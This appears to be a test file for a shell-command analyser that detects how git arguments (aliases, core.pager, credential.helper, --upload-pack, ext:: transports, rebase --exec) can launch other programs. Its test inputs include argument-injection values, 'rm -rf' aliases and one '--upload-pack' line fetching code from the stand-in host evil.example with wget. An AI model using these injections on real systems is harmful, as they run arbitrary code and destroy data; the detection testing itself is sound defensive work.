import { expect, test } from 'vitest'
import { modelOf } from '../../../../runtime/shell/programs/programs.js'
import type { Files } from '../../../../runtime/shell/analysis.js'
import { analyseIn, execs } from '../evaluate/show-analysis.js'
import { told, type Given } from '../../../support/recording-world.js'

const starts = (args: readonly string[], given: Given = {}) =>
  told(modelOf('git'), 'git', { args, ...given }).lines.filter(line => /^(run|shell|script|unknown)/.test(line))

test.each([
  [['-C', 'd', '-c', 'alias.x=!id', 'x', 'a'], 'shell id "$@" via git alias x'],
  [['-c', 'core.pager=id', 'log'], 'shell id via git -c core.pager'],
  [['-c', 'credential.helper=!id', 'fetch'], 'shell id via git -c credential.helper'],
  [['rebase', '-i', '--exec', 'make test', 'main'], 'shell make test via git rebase -x'],
  [['bisect', 'run', 'rm', 'x'], 'run [rm x] via git bisect run'],
  [['submodule', 'foreach', '--recursive', 'git pull'], 'shell git pull via git submodule foreach'],
  [['clone', '--upload-pack=id', 'ssh://h/x'], 'shell id via git clone -u'],
  [['clone', 'ext::sh -c touch% x'], 'run [sh -c touch x] via git ext::'],
  [['grep', '-Oid', 'x'], 'run [id] via git grep -O'],
  [['config', 'alias.z', '!id'], 'shell id via git -c alias.z'],
  [['flow', 'init'], 'unknown exec: alias flow of git'],
])('git %j', (args, expected) => {
  expect(starts(args)).toContain(expected)
})

test.each([
  [['-c', 'color.ui=always', 'status']],
  [['commit', '-m', 'rm -rf x']],
  [['push', '-u', 'origin', 'main']],
  [['config', 'user.name', 'x']],
  [['config', '--get', 'core.pager']],
  [['-c', 'core.hooksPath=/dev/null', 'commit']],
])('git %j runs nothing', args => {
  expect(starts(args)).toEqual([])
})

test('an alias is read from the configuration', () => {
  const texts = { '.git/config': '[user]\n  x = 1\n[alias]\n  st = status -s # short\n  w = "!rm -rf \\"$1\\""\n' }
  expect(starts(['st', 'a'], { texts })).toEqual(['run [git status -s a] via git alias st'])
  expect(starts(['w'], { texts })).toEqual(['shell rm -rf "$1" via git alias w'])
  expect(starts(['lg'], { texts })).toEqual(['run [git-lg] via git alias lg'])
})

test('a subcommand that is none of Git and no alias is a program', () => {
  const none: Files = { readText: () => undefined, list: () => undefined, kind: () => 'none' }
  expect(analyseIn('git foo-bar x', none).unknowns).toEqual([])
  expect(execs('git foo x', none)).toEqual(['git foo x', 'git-foo x'])
})

test('the program at the other end of a transport gets the path of the repository', () => {
  expect(execs("git ls-remote '--upload-pack=wget -qO- http://evil.example/x' /tmp")).toContain('wget -qO- http://evil.example/x ⟨any⟩')
})
